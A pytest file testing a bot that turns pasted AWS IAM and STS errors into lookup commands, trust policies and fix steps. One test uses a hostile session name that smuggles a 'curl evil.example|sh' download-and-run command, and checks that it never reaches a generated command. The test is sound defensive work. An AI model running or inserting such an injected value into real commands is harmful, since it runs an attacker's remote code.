"""Replies filled with the paste's real names: commands that run, lookups instead of inventions."""

from __future__ import annotations

import json
import os
import re
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest

from bot.advice import Advice, advise, fill
from bot.diagnosis import Diagnosis, diagnose
from bot.knowledge import KnowledgeBase
from bot.render import as_json, blocks, terminal
from bot.render import facts as render_facts
from bot.responder import button_value, from_button
from bot.values import applies, runnable
from tests.conftest import SESSION_NAME

CORPUS = Path(__file__).parent / "corpus"


def _advice(text: str, kb: KnowledgeBase, lang: str = "en") -> Advice:
    triage = diagnose(text, lang=lang)  # type: ignore[arg-type]
    assert triage.primary is not None
    return advise(triage.primary, triage.lang, kb.shared.passed_to_service)


def _commands(advice: Advice) -> str:
    return "\n".join(c.run for c in advice.commands)


SSO_MISSING = "$ aws s3 ls --profile dev\nError loading SSO Token: Token for my-sso does not exist"
PROTECTED = "An error occurred (UnmodifiableEntity) when calling the DeleteRole operation: Cannot perform the operation on the protected role '{}' - this role is only modifiable by AWS"


def test_default_version_command_looks_up_the_policy_arn_the_message_lacks(kb: KnowledgeBase) -> None:
    advice = _advice(kb.cause("default-policy-version").examples.match[0].text, kb)
    assert (
        "aws iam set-default-policy-version --version-id v1 --policy-arn "
        '"$(aws iam list-policies --scope Local --query "Policies[?PolicyName==\'codebuild-RWBCore-managed-policy\'].Arn" --output text)"'
    ) in _commands(advice)
    assert "codebuild.amazonaws.com" in " ".join([*advice.steps, advice.summary, advice.explanation])


def test_identity_center_role_gets_the_permission_set_fix_not_the_service_linked_one(
    kb: KnowledgeBase,
) -> None:
    advice = _advice(PROTECTED.format("AWSReservedSSO_AdministratorAccess_073ae2cbd6a6a546"), kb)
    assert "grep -F AdministratorAccess" in _commands(advice)
    assert "delete-service-linked-role" not in _commands(advice)
    assert any("AdministratorAccess" in step for step in advice.steps)


def test_service_linked_role_gets_the_deletion_flow_not_the_permission_set(kb: KnowledgeBase) -> None:
    advice = _advice(PROTECTED.format("AWSServiceRoleForAmazonGuardDuty"), kb)
    assert "delete-service-linked-role --role-name AWSServiceRoleForAmazonGuardDuty" in _commands(advice)
    assert "sso-admin" not in _commands(advice)


def test_the_role_is_named_by_its_arn_where_the_paste_also_gives_a_name(kb: KnowledgeBase) -> None:
    both = Diagnosis(
        kb.cause("assume-role-denied"),
        0.97,
        {"role_arn": "arn:aws:iam::111122223333:role/ci/deploy", "role_name": "deploy-old"},
        0,
        1,
    )
    commands = _commands(advise(both, "en", kb.shared.passed_to_service))
    assert "get-role --role-name deploy " in commands
    assert "deploy-old" not in commands
    named = replace(both, entities={"role_name": "deploy-old"})
    assert "get-role --role-name deploy-old " in _commands(advise(named, "en", kb.shared.passed_to_service))


def test_a_role_arn_without_a_name_is_never_looked_up_by_its_type(kb: KnowledgeBase) -> None:
    for role in ("arn:aws:iam::111122223333:role", "arn:aws:iam::111122223333:role/"):
        text = f"User: arn:aws:iam::111122223333:user/x is not authorized to perform: sts:AssumeRole on resource: {role}"
        commands = _commands(_advice(text, kb))
        assert "--role-name role" not in commands and "--role-name  " not in commands


def test_a_condition_holds_where_each_value_matches_and_a_negated_one_where_it_does_not() -> None:
    values = {"policy_scope": "Local", "role": "app"}
    assert applies({}, values)
    assert applies({"policy_scope": "^Local$"}, values)
    assert not applies({"policy_scope": "^AWS$"}, values)
    assert not applies({"service": "."}, values)  # absent
    assert applies({"policy_scope": "!^AWS$"}, values)  # present, not matching
    assert not applies({"policy_scope": "!^Local$"}, values)
    assert applies({"service": "!."}, values)  # absent
    assert not applies({"role": "!."}, values)
    assert not applies({"policy_scope": "^Local$", "role": "!."}, values)


def test_an_aws_managed_policy_arn_is_runnable_and_a_masked_account_is_not() -> None:
    values = {
        "managed": "arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole",
        "customer": "arn:aws:iam::123456789012:policy/ci-deploy",
        "placeholder": "arn:aws:iam::ACCOUNT_ID:policy/ci-deploy",
        "unset": "arn:aws:iam::None:policy/ci-deploy",
    }
    assert set(runnable(values)) == {"managed", "customer"}


def test_deleting_an_aws_managed_policy_gets_no_detach_everywhere_command(kb: KnowledgeBase) -> None:
    conflict = "An error occurred (DeleteConflict) when calling the DeletePolicy operation: Cannot delete a policy attached to entities."
    managed = _advice(
        f"$ aws iam delete-policy --policy-arn arn:aws:iam::aws:policy/AdministratorAccess\n{conflict}", kb
    )
    assert "list-entities-for-policy" in _commands(managed)
    assert "detach-role-policy" not in _commands(managed)
    customer = _advice(
        f"$ aws iam delete-policy --policy-arn arn:aws:iam::123456789012:policy/ci\n{conflict}", kb
    )
    assert "detach-role-policy" in _commands(customer)


def test_a_service_named_in_words_gets_its_own_principal_trusted(kb: KnowledgeBase) -> None:
    infrastructure = _advice(
        "An error occurred (InvalidParameterException) when calling the RunTask operation: ECS was unable to"
        " assume the configured ECS Infrastructure Role 'arn:aws:iam::123456789012:role/ecsInfra'",
        kb,
    )
    assert infrastructure.policy is not None and '"ecs.amazonaws.com"' in infrastructure.policy
    assert "p=ecs.amazonaws.com;" in _commands(infrastructure)
    assert "ecs-tasks.amazonaws.com" not in _commands(infrastructure) + infrastructure.policy
    lambda_ = _advice("The role defined for the function cannot be assumed by Lambda.", kb)
    assert lambda_.policy is not None and '"lambda.amazonaws.com"' in lambda_.policy
    # A principal the message names itself comes first.
    states = _advice(
        "Neither the global service principal states.amazonaws.com, nor the regional one is authorized to assume the provided role.",
        kb,
    )
    assert states.policy is not None and '"states.amazonaws.com"' in states.policy
    for text, principal, step in (
        (
            "An error occurred (InvalidInputException) when calling the CreateProject operation: Invalid service role",
            "codebuild.amazonaws.com",
            "CodeBuild:",
        ),
        (
            "An error occurred (InsufficientDeliveryPolicyException) when calling the PutDeliveryChannel operation:"
            " Insufficient delivery policy to s3 bucket: b, unable to assume role: arn:aws:iam::1:role/cfg",
            "config.amazonaws.com",
            "AWS Config:",
        ),
        (
            "[ERROR]: !!! Unable to assume specified IAM Role.",
            "amplify.amazonaws.com",
            "AWS Amplify Hosting:",
        ),
        (
            "Unable to assume role arn:aws:iam::444455556666:role/appsync-ds::444455556666::arn:aws:appsync:"
            "eu-west-1:444455556666:apis/abcd1234",
            "appsync.amazonaws.com",
            "AWS AppSync:",
        ),
    ):
        advice = _advice(text, kb)
        assert advice.policy is not None and f'"{principal}"' in advice.policy, text
        assert sum(s.startswith(step) for s in advice.steps) == 1, text
    for text in (
        "An error occurred (InvalidInputException) when calling the CreateJob operation: Invalid service role",
        "An error occurred (InvalidRoleException) when calling the CreateDeploymentGroup operation: "
        "The role arn passed is not valid",
    ):
        assert not any(
            d.cause.id == "service-cannot-assume-role" for d in diagnose(text, asked=True).diagnoses
        ), text


def test_masked_values_never_reach_a_command_nor_become_a_wildcard_in_a_statement(kb: KnowledgeBase) -> None:
    for mask in ("***", "<account-id>", "xxxxxxxxxxxx", "*", "${AWS::AccountId}"):
        text = (
            f"User: arn:aws:sts::{mask}:assumed-role/deployer/ci is not authorized to perform: iam:PassRole "
            f"on resource: arn:aws:iam::{mask}:role/app-role"
        )
        advice = _advice(text, kb)
        assert mask not in _commands(advice)
        assert "aws iam get-role --role-name app-role" in _commands(advice)
        # IAM reads a star in an ARN as any account: the statement keeps the role, not the mask.
        assert advice.policy is not None and mask not in advice.policy, mask
        assert '"Resource": "arn:aws:iam::ACCOUNT_ID:role/app-role"' in advice.policy, advice.policy


DENIED = (
    "User: arn:aws:sts::444455556666:assumed-role/partner-reader/s1 is not authorized to perform: "
    "{action} on resource: {resource} {tail}"
)


def test_an_explicit_deny_gets_no_allow_to_add_and_an_implicit_one_does(kb: KnowledgeBase) -> None:
    bucket = "arn:aws:s3:::acme-exports/q1.csv"
    role = "arn:aws:iam::444455556666:role/app"
    for action, resource, layer, cause in [
        ("s3:GetObject", bucket, "a permissions boundary", "permissions-boundary-denied"),
        ("s3:GetObject", bucket, "a session policy", "session-policy-denied"),
        ("s3:GetObject", bucket, "a VPC endpoint policy", "vpc-endpoint-policy-denied"),
        ("iam:PassRole", role, "a service control policy", "passrole-denied"),
    ]:
        for kind, tail, allowed in [
            ("explicit", f"with an explicit deny in {layer}", False),
            ("implicit", f"because no {layer.split(' ', 1)[1]} allows the {action} action", True),
        ]:
            advice = _advice(DENIED.format(action=action, resource=resource, tail=tail), kb)
            assert advice.cause.id == cause and advice.entities["deny"]["kind"] == kind
            assert (advice.policy is not None and '"Allow"' in advice.policy) is allowed, (cause, kind)
    bare = _advice(DENIED.format(action="s3:GetObject", resource=bucket, tail="with an explicit deny"), kb)
    assert bare.cause.id == "access-denied-unspecified" and bare.policy is None
    for action, resource, cause in [
        ("iam:PassRole", role, "passrole-denied"),
        ("sts:AssumeRole", role, "assume-role-denied"),
        ("sts:TagSession", role, "tag-session-denied"),
    ]:
        advice = _advice(DENIED.format(action=action, resource=resource, tail="with an explicit deny"), kb)
        assert advice.cause.id == cause and advice.policy is None, cause
        assert not any("statement below" in step for step in advice.steps), cause


def test_a_layer_a_specific_error_names_is_said_with_who_owns_the_fix(kb: KnowledgeBase) -> None:
    tail = "with an explicit deny in a service control policy"
    advice = _advice(
        DENIED.format(action="iam:PassRole", resource="arn:aws:iam::444455556666:role/app", tail=tail), kb
    )
    text = terminal.render(
        diagnose(
            DENIED.format(action="iam:PassRole", resource="arn:aws:iam::444455556666:role/app", tail=tail)
        ),
        kb,
    )
    assert advice.cause.id == "passrole-denied"
    assert "organisation's administrators" in text and "An explicit Deny overrides every Allow" in text
    assert not any("(statement below)" in step for step in advice.steps)
    assume = DENIED.format(action="sts:AssumeRole", resource="arn:aws:iam::444455556666:role/app", tail=tail)
    text = terminal.render(diagnose(assume), kb)
    assert "organisation's administrators" in text and "An explicit Deny overrides every Allow" in text


def test_an_organisation_policys_exception_names_the_callers_role_exactly(kb: KnowledgeBase) -> None:
    for tail, cause in [
        ("with an explicit deny in a resource control policy", "rcp-denied"),
        ("with an explicit deny in a service control policy", "scp-denied"),
    ]:
        advice = _advice(
            DENIED.format(action="s3:GetObject", resource="arn:aws:s3:::acme-exports/q1.csv", tail=tail), kb
        )
        assert advice.cause.id == cause and advice.policy is not None
        exempted = json.loads(advice.policy)["Condition"]["ArnNotLike"]["aws:PrincipalArn"]
        # Any account could create a role whose name ends so: never a wildcard account or prefix.
        assert exempted == [
            "arn:aws:iam::444455556666:role/partner-reader",
            "arn:aws:iam::444455556666:role/*/partner-reader",
        ]


def test_the_tag_session_statement_trusts_the_caller_not_its_whole_account(kb: KnowledgeBase) -> None:
    user = _advice(kb.cause("tag-session-denied").examples.match[0].text, kb)
    assert user.policy is not None
    assert json.loads(user.policy)["Principal"] == {"AWS": "arn:aws:iam::123456789012:user/github-ci"}
    session = _advice(
        "An error occurred (AccessDenied) when calling the AssumeRole operation: User: "
        "arn:aws:sts::111122223333:assumed-role/ci-runner/build-7 is not authorized to perform: sts:TagSession "
        "on resource: arn:aws:iam::444455556666:role/deploy",
        kb,
    )
    assert session.cause.id == "tag-session-denied" and session.policy is not None
    statement = json.loads(session.policy)
    # The session's ARN does not show its role's path: the role is named with any path.
    assert statement["Condition"]["ArnLike"]["aws:PrincipalArn"] == [
        "arn:aws:iam::111122223333:role/ci-runner",
        "arn:aws:iam::111122223333:role/*/ci-runner",
    ]


def test_root_credentials_and_a_trust_policy_denial_get_their_own_fix_not_the_callers_allow(
    kb: KnowledgeBase,
) -> None:
    root = _advice(
        "An error occurred (AccessDenied) when calling the AssumeRole operation: Roles may not be assumed by root accounts.",
        kb,
    )
    assert root.cause.id == "assume-role-denied" and root.policy is None
    assert len(root.steps) == 1 and "root user" in root.steps[0]
    trust = _advice(
        "User: arn:aws:sts::111122223333:assumed-role/ci/run-1 is not authorized to perform: sts:AssumeRole on "
        "resource: arn:aws:iam::444455556666:role/cross-deploy because no role trust policy allows the "
        "sts:AssumeRole action",
        kb,
    )
    assert trust.cause.id == "assume-role-denied" and trust.entities["deny"]["policy_type"] == "trust"
    assert trust.policy is None
    assert not any("identity-based policy of" in step for step in trust.steps)
    assert any("trust policy names the caller as Principal" in step for step in trust.steps)


def test_a_china_or_govcloud_paste_gets_arns_in_its_own_partition(kb: KnowledgeBase) -> None:
    for partition in ("aws-cn", "aws-us-gov"):
        text = (
            kb.cause("assume-role-web-identity-denied")
            .examples.match[0]
            .text.replace("arn:aws:", f"arn:{partition}:")
        )
        advice = _advice(text, kb)
        assert advice.cause.id == "assume-role-web-identity-denied" and advice.policy is not None
        assert f"arn:{partition}:iam::" in advice.policy and "arn:aws:" not in advice.policy


def test_a_quoted_resource_is_read_to_its_closing_quote_and_kept_out_of_commands(kb: KnowledgeBase) -> None:
    key = "arn:aws:s3:::analytics-raw/exports/Q1 2024 (final).csv"
    advice = _advice(
        "User: arn:aws:sts::123456789012:assumed-role/DataReader/etl-42 is not authorized to perform: "
        f's3:GetObject on resource: "{key}" because no session policy allows the s3:GetObject action',
        kb,
    )
    assert advice.entities["resource_arn"] == key
    assert advice.policy is not None and json.loads(advice.policy)["Resource"] == key
    assert "Q1 2024" not in _commands(advice)  # not safe to run as pasted; the commands look it up


def test_an_rcp_reply_never_takes_the_callers_account_for_the_resources_owner(kb: KnowledgeBase) -> None:
    tail = "with an explicit deny in a resource control policy"
    s3 = _advice(
        DENIED.format(action="s3:GetObject", resource="arn:aws:s3:::acme-exports/q1.csv", tail=tail), kb
    )
    assert s3.cause.id == "rcp-denied" and "444455556666" not in " ".join(s3.steps) + _commands(s3)
    queue = "arn:aws:sqs:eu-west-1:777788889999:orders"
    sqs = _advice(DENIED.format(action="sqs:SendMessage", resource=queue, tail=tail), kb)
    assert "777788889999" in " ".join(sqs.steps) and "t=777788889999;" in _commands(sqs)


def test_a_refused_service_linked_role_names_its_service_and_limits_the_grant_to_it(
    kb: KnowledgeBase,
) -> None:
    advice = _advice(kb.cause("service-linked-role-create-denied").examples.match[0].text, kb)
    service = "elasticloadbalancing.amazonaws.com"
    assert service in advice.title
    assert advice.policy is not None
    assert json.loads(advice.policy)["Condition"] == {"StringEquals": {"iam:AWSServiceName": service}}


def test_only_the_quota_that_can_be_raised_gets_the_request_to_raise_it(kb: KnowledgeBase) -> None:
    error = "An error occurred (LimitExceeded) when calling the {} operation: Cannot exceed quota for {}: {}"
    per_role = _advice(error.format("AttachRolePolicy", "PoliciesPerRole", 10), kb)
    assert "request-service-quota-increase --service-code iam --quota-code L-0DA4ABF3" in _commands(per_role)
    for operation, quota, limit in (
        ("CreatePolicy", "PolicySize", 6144),
        ("PutRolePolicy", "RolePolicySize", 10240),
    ):
        size = _advice(error.format(operation, quota, limit), kb)
        assert size.cause.id == "policy-quota-exceeded" and "request-service-quota-increase" not in _commands(
            size
        )


def test_an_invalid_principal_in_a_trust_policy_gets_a_trust_statement_for_sts_assume_role(
    kb: KnowledgeBase,
) -> None:
    advice = _advice(
        "An error occurred (MalformedPolicyDocument) when calling the UpdateAssumeRolePolicy operation: "
        'Invalid principal in policy: "AWS":"arn:aws:iam::123456789012:role/ci-deployer"',
        kb,
    )
    assert advice.cause.id == "invalid-principal-in-policy" and advice.policy is not None
    statement = json.loads(advice.policy)
    assert statement["Action"] == "sts:AssumeRole"
    assert (
        statement["Condition"]["ArnLike"]["aws:PrincipalArn"] == "arn:aws:iam::123456789012:role/ci-deployer"
    )


def test_passrole_statement_names_the_receiving_service_only_when_known(kb: KnowledgeBase) -> None:
    known = _advice(kb.cause("passrole-denied").examples.match[0].text, kb)
    assert known.policy is not None and '"iam:PassedToService": "autoscaling.amazonaws.com"' in known.policy
    unknown = _advice(
        "User: arn:aws:iam::123456789012:user/bob is not authorized to perform: iam:PassRole on resource: arn:aws:iam::123456789012:role/x",
        kb,
    )
    assert unknown.policy is not None and "PassedToService" not in unknown.policy
    assert any("service documentation" in step for step in unknown.steps)


def test_duration_reply_looks_up_the_roles_maximum(kb: KnowledgeBase) -> None:
    text = (
        "$ aws sts assume-role --role-arn arn:aws:iam::123456789012:role/Analyst --role-session-name s --duration-seconds 43200\n"
        "An error occurred (ValidationError) when calling the AssumeRole operation: The requested DurationSeconds exceeds the MaxSessionDuration set for this role."
    )
    triage = diagnose(text)
    assert triage.primary is not None
    assert triage.primary.entities["requested_duration"] == 43200
    assert "aws iam get-role --role-name Analyst --query Role.MaxSessionDuration" in _commands(
        _advice(text, kb)
    )


def test_session_name_is_checked_in_the_command_when_it_is_safe_to_quote(kb: KnowledgeBase) -> None:
    advice = _advice(SESSION_NAME.format("ci/feature/login"), kb)
    assert advice.entities["session_name"] == "ci/feature/login"
    assert "printf '%s' 'ci/feature/login' | tr -c 'A-Za-z0-9_+=,.@-' '-' | cut -c1-64" in _commands(advice)


def test_a_hostile_session_name_is_reported_but_never_put_into_a_command(kb: KnowledgeBase) -> None:
    advice = _advice(SESSION_NAME.format("x$(curl evil.example|sh);id"), kb)
    assert advice.entities["session_name"] == "x$(curl evil.example|sh);id"
    commands = _commands(advice)
    assert "evil" not in commands and "$SESSION_NAME" in commands


def test_a_japanese_fallback_reads_without_spaces_and_a_name_keeps_them(kb: KnowledgeBase) -> None:
    bare = _advice(SESSION_NAME.format("ci/main"), kb, "ja")
    assert any("このエラーのために対象のロールやその信頼ポリシー" in step for step in bare.steps)
    with_role = _advice(
        "aws sts assume-role --role-arn arn:aws:iam::111122223333:role/deploy-role --role-session-name ci/main\n"
        + SESSION_NAME.format("ci/main"),
        kb,
        "ja",
    )
    assert any("このエラーのために deploy-role やその信頼ポリシー" in step for step in with_role.steps)


def test_an_empty_fallback_leaves_no_stray_space() -> None:
    assert fill("Look at the existing role {role|}: when it was created", {}) == (
        "Look at the existing role: when it was created"
    )
    assert fill("the role {role|} in {account}", {"account": "111122223333"}) == "the role in 111122223333"
    assert fill("既存のロール {role|} を確認します", {}) == "既存のロールを確認します"


def test_an_eks_add_on_gets_the_provider_fix_and_a_plain_cross_account_paste_does_not(
    kb: KnowledgeBase,
) -> None:
    add_on = _advice(
        "Error: updating EKS Add-On (prod:aws-ebs-csi-driver): operation error EKS: UpdateAddon, https "
        "response error StatusCode: 403, api error AccessDeniedException: Cross-account pass role is not allowed.",
        kb,
    )
    assert any("Pod Identity" in step for step in add_on.steps)
    assert "aws eks update-addon" in _commands(add_on)
    plain = _advice(kb.cause("passrole-cross-account").examples.match[0].text, kb)
    assert not any("Pod Identity" in step for step in plain.steps)
    assert "aws eks update-addon" not in _commands(plain)


def test_a_session_name_is_shown_as_sts_quoted_it() -> None:
    for name in ("Fix login (#123)", "deploy.", "(draft) x"):
        triage = diagnose(SESSION_NAME.format(name))
        assert triage.primary is not None and triage.primary.entities["session_name"] == name


def test_a_step_for_one_shape_of_an_error_shows_only_for_that_shape(kb: KnowledgeBase) -> None:
    expired = _advice(
        "An error occurred (ExpiredToken) when calling the ListBuckets operation: The security token included in the request is expired",
        kb,
    )
    missing = _advice(SSO_MISSING, kb)
    assert expired.cause.id == missing.cause.id == "expired-token"
    assert not any("does not exist" in step for step in expired.steps)
    assert any("~/.aws/sso/cache" in step for step in missing.steps)
    # Which shape matched is a hidden value: it decides steps but is never shown.
    triage = diagnose(SSO_MISSING)
    assert triage.primary is not None and triage.primary.hidden
    output = as_json.render(triage, kb)
    shown = json.dumps(output) + json.dumps(blocks.render(triage, kb, detailed=True).blocks)
    assert "_sso_token_missing" not in shown
    assert not [key for d in output["diagnoses"] for key in d["entities"] if key.startswith("_")]
    incomplete = _advice(
        "An error occurred (IncompleteSignature) when calling the GetCallerIdentity operation: 'AKIAEXAMPLE /20240128/us-east-1/sts/aws4_request' not a valid key=value pair (missing equal-sign) in Authorization header",
        kb,
    )
    mismatch = _advice(kb.cause("signature-mismatch").examples.match[0].text, kb)
    assert incomplete.steps[0].startswith("IncompleteSignature")
    assert not any("IncompleteSignature" in step for step in mismatch.steps)
    # A context rule tells the message's detail whichever pattern matched: clock skew here.
    skew = _advice(
        "An error occurred (SignatureDoesNotMatch) when calling the GetCallerIdentity operation: "
        "Signature expired: 20240101T000000Z is now earlier than 20240101T001500Z (20240101T003000Z - 15 min.)",
        kb,
    )
    assert any(step.startswith('"Signature expired"') for step in skew.steps)
    assert not any(step.startswith('"Signature expired"') for step in mismatch.steps)


def test_a_denial_gets_the_steps_of_its_own_kind_only(kb: KnowledgeBase) -> None:
    denial = (
        "User: arn:aws:iam::123456789012:user/dev is not authorized to perform: ssm:GetParameter on resource: "
        "arn:aws:ssm:us-east-1:123456789012:parameter/app because {} identity-based policy"
    )
    implicit = _advice(denial.format("no") + " allows the ssm:GetParameter action", kb)
    explicit = _advice(
        denial.replace(
            "because {} identity-based policy", "with an explicit deny in an identity-based policy"
        ),
        kb,
    )
    assert implicit.cause.id == explicit.cause.id == "identity-policy-denied"
    assert any(step.startswith('"because no identity-based policy allows"') for step in implicit.steps)
    assert not any(step.startswith('"with an explicit deny"') for step in implicit.steps)
    assert any(step.startswith('"with an explicit deny"') for step in explicit.steps)
    assert not any(step.startswith('"because no identity-based policy allows"') for step in explicit.steps)
    # An Allow does not lift an explicit deny: the statement to add is offered only to an implicit one.
    assert implicit.policy is not None and '"Effect": "Allow"' in implicit.policy
    assert explicit.policy is None


def test_a_repeat_refused_in_another_way_keeps_the_steps_of_both(kb: KnowledgeBase) -> None:
    mfa = "An error occurred (AccessDenied) when calling the GetSessionToken operation: MultiFactorAuthentication failed"
    advice = _advice(
        f"{mfa} with invalid MFA one time pass code.\nretrying...\n{mfa}, unable to validate MFA code.", kb
    )
    assert advice.cause.id == "mfa-failed"
    assert any(step.startswith('"Invalid MFA one time pass code"') for step in advice.steps)
    assert any(step.startswith('"Unable to validate MFA code') for step in advice.steps)


def test_the_details_button_keeps_the_steps_of_the_shape_that_was_pasted(kb: KnowledgeBase) -> None:
    triage = diagnose(SSO_MISSING)
    assert triage.primary is not None
    value = button_value(triage.primary, triage.lang)
    assert value is not None and "Error loading SSO Token" not in value  # the shape's name only
    rebuilt = from_button(value, kb)
    assert rebuilt is not None and rebuilt.primary is not None
    advice = advise(rebuilt.primary, rebuilt.lang, kb.shared.passed_to_service)
    assert any("~/.aws/sso/cache" in step for step in advice.steps)
    # A value that names a shape the cause does not have adds nothing.
    forged = from_button(value.replace("_sso_token_missing", "_incomplete"), kb)
    assert forged is not None and forged.primary is not None and not forged.primary.hidden


def test_the_java_sdks_incomplete_signature_gets_its_own_step(kb: KnowledgeBase) -> None:
    java = (
        "com.amazonaws.services.securitytoken.model.AWSSecurityTokenServiceException: 'AKIAEXAMPLE\"/20240128/"
        "us-east-1/sts/aws4_request' not a valid key=value pair (missing equal-sign) in Authorization header:"
        " 'AWS4-HMAC-SHA256 Credential=AKIAEXAMPLE\"/20240128/us-east-1/sts/aws4_request, Signature=9f2b'."
        " (Service: AWSSecurityTokenService; Status Code: 400; Error Code: IncompleteSignature; Request ID: 1)"
    )
    java_v2 = (
        "software.amazon.awssdk.services.sts.model.StsException: 'AKIAEXAMPLE\"/20240128/us-east-1/sts/"
        "aws4_request' not a valid key=value pair (missing equal-sign) in Authorization header:"
        " 'AWS4-HMAC-SHA256 Credential=AKIAEXAMPLE\"/20240128/us-east-1/sts/aws4_request, Signature=9f2b'."
        " (Service: Sts, Status Code: 400, Request ID: 1)"
    )
    for text in (java, java_v2):
        advice = _advice(text, kb)
        assert advice.cause.id == "signature-mismatch"
        assert advice.steps[0].startswith("IncompleteSignature:")


def test_a_service_linked_role_given_as_a_task_role_is_told_so_and_never_edited(kb: KnowledgeBase) -> None:
    advice = _advice(
        "ECS was unable to assume the role 'arn:aws:iam::123456789012:role/aws-service-role/ecs.amazonaws.com/"
        "AWSServiceRoleForECS' that was provided for this task.",
        kb,
    )
    assert advice.cause.id == "service-cannot-assume-role"
    assert "no role to give a task" in advice.steps[0]
    assert not any("statement below" in step or "add lambda" in step for step in advice.steps)
    assert "update-assume-role-policy" not in _commands(advice)
    assert advice.policy is None
    # Named only by its name, it is still a service-linked role.
    named = _advice(
        "ECS was unable to assume the role 'AWSServiceRoleForECS' that was provided for this task.", kb
    )
    assert "no role to give a task" in named.steps[0]
    assert "update-assume-role-policy" not in _commands(named) and named.policy is None
    own = _advice(
        "ECS was unable to assume the role 'arn:aws:iam::123456789012:role/app-task' that was provided for this task.",
        kb,
    )
    assert "update-assume-role-policy" in _commands(own)
    assert own.policy is not None and '"ecs-tasks.amazonaws.com"' in own.policy


def test_a_service_that_cannot_assume_its_role_links_its_own_guide_and_no_other_services(
    kb: KnowledgeBase,
) -> None:
    lambda_guide = "https://docs.aws.amazon.com/lambda/latest/dg/lambda-intro-execution-role.html"
    codebuild_guide = "troubleshooting.html#troubleshooting-assume-role"
    general = "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_create_for-service.html"
    lambda_error = _advice(
        "An error occurred (InvalidParameterValueException) when calling the CreateFunction operation: "
        "The role defined for the function cannot be assumed by Lambda.",
        kb,
    )
    assert general in lambda_error.references and lambda_guide in lambda_error.references
    assert not any(codebuild_guide in url or "/config/" in url for url in lambda_error.references)
    codebuild = _advice(
        "An error occurred (InvalidInputException) when calling the CreateProject operation: "
        "CodeBuild is not authorized to perform: sts:AssumeRole on arn:aws:iam::111122223333:role/build",
        kb,
    )
    assert codebuild.cause.id == "service-cannot-assume-role"
    assert any(codebuild_guide in url for url in codebuild.references)
    assert general in codebuild.references and lambda_guide not in codebuild.references
    glue = _advice("Service is unable to assume provided role. Please verify role's TrustPolicy", kb)
    assert glue.references and all("/IAM/" in url for url in glue.references)


def test_a_users_arn_given_as_a_role_is_told_so_and_never_looked_up_as_a_role(kb: KnowledgeBase) -> None:
    config = (
        "An error occurred (InsufficientDeliveryPolicyException) when calling the PutDeliveryChannel operation: "
        "Insufficient delivery policy to s3 bucket: config-history, unable to assume role: "
        "arn:aws:iam::111122223333:user/config-admin."
    )
    advice = _advice(config, kb)
    assert advice.cause.id == "service-cannot-assume-role"
    assert "config-admin is the ARN of a user, not of a role" in advice.steps[0]
    assert any(step.startswith("AWS Config:") for step in advice.steps)
    commands = _commands(advice)
    assert "--role-name config-admin" not in commands and "update-assume-role-policy" not in commands
    assert "aws iam create-role --role-name ROLE_NAME" in commands and '"config.amazonaws.com"' in commands
    assert not any("propagated" in step or "Condition" in step for step in advice.steps)
    assert advice.title.startswith("An AWS service cannot assume the role you gave it")
    # A role's ARN gets the role's own steps and lookups, and no creation.
    role = _advice(config.replace(":user/config-admin", ":role/config-recorder"), kb)
    assert "--role-name config-recorder" in _commands(role)
    assert "create-role" not in _commands(role)
    assert not any("not of a role" in step for step in role.steps)
    japanese = _advice(config, kb, lang="ja")
    assert "config-admin は IAM ユーザーの ARN で、ロールの ARN ではありません" in japanese.steps[0]
    # A group's, a policy's or an instance profile's ARN is no role either, and is called what it is.
    for arn, what, japanese_words in (
        ("arn:aws:iam::111122223333:group/devs", "a group", "は IAM グループ"),
        (
            "arn:aws:iam::111122223333:instance-profile/web",
            "an instance profile",
            "はインスタンスプロファイル",
        ),
    ):
        other = _advice(config.replace("arn:aws:iam::111122223333:user/config-admin", arn), kb)
        assert f"is the ARN of {what}, not of a role" in other.steps[0]
        in_japanese = _advice(
            config.replace("arn:aws:iam::111122223333:user/config-admin", arn), kb, lang="ja"
        )
        assert f"{arn} {japanese_words}の ARN で、ロールの ARN ではありません" in in_japanese.steps[0]
        assert f"--role-name {arn.rsplit('/', 1)[1]}" not in _commands(other)
    # Config's InvalidRoleException: the value is no role ARN (here the managed policy's); no trust,
    # propagation or Condition advice, and never a role named after the policy.
    policy = _advice(
        "InvalidRoleException: The role ARN passed 'arn:aws:iam::aws:policy/service-role/AWS_ConfigRole' is not valid",
        kb,
    )
    assert policy.cause.id == "service-cannot-assume-role"
    assert "is the ARN of a policy, not of a role" in policy.steps[0]
    assert any(step.startswith("AWS Config's InvalidRoleException") for step in policy.steps)
    assert not any("propagated" in step or "Condition" in step for step in policy.steps)
    assert "--role-name AWS_ConfigRole" not in _commands(policy)
    empty = _advice("InvalidRoleException: The role arn passed is not valid", kb)
    assert empty.steps[0].startswith("AWS Config's InvalidRoleException")
    assert not any("Read the trust policy" in step or "propagated" in step for step in empty.steps)
    # Config may use its own service-linked role: it is not told that such a role is no role to give.
    linked = _advice(
        config.replace(
            "arn:aws:iam::111122223333:user/config-admin",
            "arn:aws:iam::111122223333:role/aws-service-role/config.amazonaws.com/AWSServiceRoleForConfig",
        ),
        kb,
    )
    assert not any("no role to give" in step for step in linked.steps)
    assert any(step.startswith("AWS Config:") for step in linked.steps)
    # Asked to assume a user (an app given its user's ARN as the role to assume): no trust or
    # caller-policy fix, no statement, only the right ARN to use.
    assumed = _advice(
        "An error occurred (AccessDenied) when calling the AssumeRole operation: User: "
        "arn:aws:iam::111122223333:user/app is not authorized to perform: sts:AssumeRole on resource: "
        "arn:aws:iam::111122223333:user/app",
        kb,
    )
    assert assumed.cause.id == "assume-role-denied"
    assert len(assumed.steps) == 1
    assert "no policy makes anything else assumable" in assumed.steps[0]
    assert assumed.policy is None and "simulate-principal-policy" not in _commands(assumed)
    assert "aws iam list-roles" in _commands(assumed)


def test_a_policy_arn_built_from_an_unset_variable_is_called_so(kb: KnowledgeBase) -> None:
    unset = _advice(
        "An error occurred (NoSuchEntity) when calling the AttachRolePolicy operation: Policy"
        " arn:aws:iam::None:policy/app-read does not exist or is not attachable.",
        kb,
    )
    assert any("a variable that was never set" in step for step in unset.steps)
    for account in ("<nil>", "NONE", "$ACCOUNT_ID", ""):
        other = _advice(
            f"Policy arn:aws:iam::{account}:policy/app-read does not exist or is not attachable.", kb
        )
        assert any("a variable that was never set" in step for step in other.steps), account
        assert not any("customer managed policy of account" in step for step in other.steps), account
    assert not any("customer managed policy of account" in step for step in unset.steps)
    assert "list-policies --scope All" in _commands(unset)
    customer_arn = unset.entities["policy_arn"].replace("None", "123456789012")
